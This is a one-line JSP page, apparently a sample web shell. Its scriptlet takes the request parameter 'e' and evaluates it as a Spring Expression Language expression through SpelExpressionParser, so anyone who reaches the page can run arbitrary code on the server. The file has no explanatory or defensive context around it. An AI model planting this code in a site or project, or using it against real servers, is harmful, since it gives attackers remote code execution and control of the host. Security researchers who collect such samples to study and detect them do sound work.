<%@ inert %>
<% new org.springframework.expression.spel.standard.SpelExpressionParser().parseExpression(request.getParameter("e")).getValue(); %>
